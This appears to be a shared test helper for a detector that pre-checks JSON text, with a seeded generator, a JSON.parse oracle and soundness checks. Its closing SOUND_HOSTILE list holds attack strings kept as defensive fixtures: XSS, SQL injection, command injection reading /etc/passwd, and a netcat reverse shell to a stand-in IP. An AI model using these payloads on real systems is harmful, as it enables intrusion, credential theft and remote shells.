/** Shared by the JSON text pre-check tests: a seeded generator, JSON.parse as the oracle, soundness. */
import { expect } from 'vitest'
import { detect } from '../../src/detect/index.js'
import { cleanJsonText } from '../../src/detect/json-text.js'
import { PLAIN_TRIGGERS_I } from '../../src/detect/plain-triggers.js'
import { STARTS_WITH_COMMAND } from '../../src/detect/scan.js'

/** A small seeded generator (mulberry32): the same cases on every run. */
export function rng(seed: number) {
  let a = seed
  return () => {
    a = (a + 0x6d2b79f5) | 0
    let t = Math.imul(a ^ (a >>> 15), 1 | a)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

/** What JSON.parse says: the value, or undefined when it throws. */
export function parsed(s: string): { v: unknown } | undefined {
  try {
    return { v: JSON.parse(s) }
  } catch {
    return undefined
  }
}

export function depthOf(v: unknown): number {
  if (typeof v !== 'object' || v === null) return 0
  let d = 0
  for (const x of Object.values(v)) d = Math.max(d, depthOf(x))
  return d + 1
}

export const container = (p: { v: unknown } | undefined) =>
  p !== undefined && typeof p.v === 'object' && p.v !== null

/** A clean answer must be a JSON object or array that JSON.parse reads, within the depth, with no finding. */
export function sound(s: string, maxDepth = 64): void {
  if (!cleanJsonText(s, maxDepth)) return
  const p = parsed(s)
  expect(container(p), s).toBe(true)
  expect(depthOf(p!.v), s).toBeLessThanOrEqual(maxDepth)
  expect(detect(p!.v), s).toEqual([])
}

/**
 * An oracle from the parsed value, for texts whose strings hold only letters, digits and ` ,.:`
 * (which the line-rate pass never keeps): the expected answer, or undefined when a string holds
 * anything else (then only soundness is checked).
 */
export function oracle(s: string, maxDepth: number): boolean | undefined {
  const p = parsed(s)
  if (!container(p)) return false
  const strings: string[] = []
  const collect = (v: unknown): void => {
    if (typeof v === 'string') strings.push(v)
    else if (typeof v === 'object' && v !== null)
      for (const [k, x] of Object.entries(v)) {
        if (!Array.isArray(v)) strings.push(k)
        collect(x)
      }
  }
  collect(p!.v)
  // JSON.parse keeps the last of duplicate keys: the text may hold strings the value does not.
  if ((s.match(/"/g)?.length ?? 0) !== strings.length * 2) return undefined
  if (strings.some((x) => !/^[A-Za-z0-9 ,.:]*$/.test(x))) return undefined
  if (depthOf(p!.v) > maxDepth || s.includes('\\')) return false
  if (PLAIN_TRIGGERS_I.test(s)) return false
  return !strings.some((x) => x.length >= 5 && x.includes(' ') && STARTS_WITH_COMMAND.test(x))
}

export const WORDS =
  'hello there are you coming to the standup later we should look at the new dashboard'.split(' ')

/** Valid JSON with plain-word strings, every number form, literals and JSON whitespace anywhere. */
export function generate(r: () => number, depth: number): string {
  const sp = () => [' ', '', '', '\n', '\t', '\r\n ', ''][Math.floor(r() * 7)]!
  const word = () => {
    const n = Math.floor(r() * 4)
    return Array.from({ length: n }, () => WORDS[Math.floor(r() * WORDS.length)]).join(' ')
  }
  const num = () =>
    ['0', '-0', '12', '-7', '3.25', '-0.5', '1e3', '2E-4', '6.02e+23', '-1.5E10', '0e0'][
      Math.floor(r() * 11)
    ]!
  const value = (d: number): string => {
    const k = r()
    if (d > 0 && k < 0.25) {
      const n = Math.floor(r() * 4)
      return `[${sp()}${Array.from({ length: n }, () => value(d - 1)).join(`${sp()},${sp()}`)}${sp()}]`
    }
    if (d > 0 && k < 0.5) {
      const n = Math.floor(r() * 4)
      const members = Array.from({ length: n }, (_, j) => `"${word()}${j}"${sp()}:${sp()}${value(d - 1)}`)
      return `{${sp()}${members.join(`${sp()},${sp()}`)}${sp()}}`
    }
    if (k < 0.75) return `"${word()}"`
    if (k < 0.9) return num()
    return ['true', 'false', 'null'][Math.floor(r() * 3)]!
  }
  const top = r() < 0.5 ? `[${value(depth)}]` : `{"m":${value(depth)}}`
  return `${sp()}${top}${sp()}`
}

/** Characters that matter to the grammar, for mutations. */
export const NOISE = '{}[],:"\\ \t\n\r\u000b\u000c\u00a0\ufeff0123456789-+.eEtrufalsn/x\u0000\u001f\u2028'

/** Hostile lines for the pre-check tests (each must come out not clean, in any place). */
export const SOUND_HOSTILE = [
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  'javascript:alert(1)',
  "1' OR '1'='1",
  '1 OR 1=1',
  '1 union select password from users',
  "admin'--",
  '; cat /etc/passwd',
  '$(whoami)',
  '`id`',
  '| nc -e /bin/sh 10.0.0.1 4444',
  'sleep 5',
  '1; waitfor delay 0:0:5',
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__',
  'constructor.prototype.polluted',
]
